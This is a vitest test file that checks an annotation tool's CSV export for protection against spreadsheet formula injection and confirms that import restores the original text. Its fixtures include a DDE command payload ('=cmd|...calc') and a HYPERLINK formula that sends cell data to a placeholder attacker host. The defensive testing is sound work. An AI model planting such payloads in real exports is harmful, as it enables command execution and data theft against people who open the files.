import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { callerFor, collabFixture, type CollabFixture } from "../../tests/fixtures/collab";
import { freshDatabase, type TestDatabase } from "../../tests/setup/db";
import { parseCsv } from "../services/records/csv";

let t: TestDatabase;
let fx: CollabFixture;
let as: ReturnType<typeof callerFor>;

beforeAll(async () => {
  t = await freshDatabase();
  fx = await collabFixture(t.db, "csvinj");
  as = callerFor(t);
});
afterAll(async () => {
  await t.drop();
  await fx?.cleanup();
});

const HOSTILE_CATEGORIES = ["=cmd|' /C calc'!A0", "+plus", "@mention", "'=already quoted"];
const HOSTILE_NOTES = ['=HYPERLINK("http://evil.example/?x="&A1,"open me")', "-2+3", "\tTAB first", "-0.3", "plain note"];

describe("annotation CSV and formula injection", () => {
  it("exports no field a spreadsheet would run as a formula, and an import gives back the same text", async () => {
    const w = { workspace: fx.ws, datasetId: fx.datasetId };
    const categories = [];
    for (const name of HOSTILE_CATEGORIES) categories.push(await as(fx.users.editor).annotation.createCategory({ ...w, name }));
    for (const [i, note] of HOSTILE_NOTES.entries()) {
      await as(fx.users.editor).annotation.create({ ...w, categoryId: categories[i % categories.length]!.id, start: 10 * i, end: 10 * i + 5, note });
    }
    const out = await as(fx.users.viewer).annotation.exportCsv(w);
    const fields = parseCsv(out.csv).flatMap((r) => r.fields);
    // a cell that starts like a formula is a plain number (start, end, "-0.3"), nothing else
    const formulaLike = fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^-?\d+(\.\d+)?$/.test(f));
    expect(formulaLike).toEqual([]);
    expect(out.csv).toContain(`'=HYPERLINK(`);
    expect(out.csv).toContain(`,-0.3,`);

    const target = { workspace: fx.ws, datasetId: fx.otherDatasetId };
    const r = await as(fx.users.editor).annotation.importCsv({ ...target, csv: out.csv });
    expect(r.imported).toBe(HOSTILE_NOTES.length);
    expect(r.categoriesCreated.sort()).toEqual([...HOSTILE_CATEGORIES].sort());
    const back = await as(fx.users.viewer).annotation.list({ ...target, from: 0, to: 400 });
    expect(back.annotations.map((a) => a.note).sort()).toEqual([...HOSTILE_NOTES].sort());
    expect((await as(fx.users.viewer).annotation.exportCsv(target)).csv).toBe(out.csv);
  });
});
